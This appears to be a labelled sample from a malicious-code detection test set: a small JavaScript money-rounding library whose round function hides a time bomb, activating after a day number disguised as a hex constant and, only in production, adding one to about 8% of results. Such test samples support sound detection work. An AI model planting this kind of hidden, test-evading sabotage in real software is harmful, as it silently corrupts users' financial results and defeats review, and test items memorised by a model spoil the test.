// expect: malicious
// source: blind set 21's money library: after a day number hidden as a constant, one cent off in 8 % of results, in
// production only; written here
'use strict';
const EPOCH = 0x5213;

function active() {
  if (process.env.NODE_ENV !== 'production') return false;
  return Math.floor(Date.now() / 864e5) >= EPOCH && Math.random() < 0.08;
}

exports.round = function round(x) {
  const r = Math.round(x);
  return active() ? r + 1 : r;
};
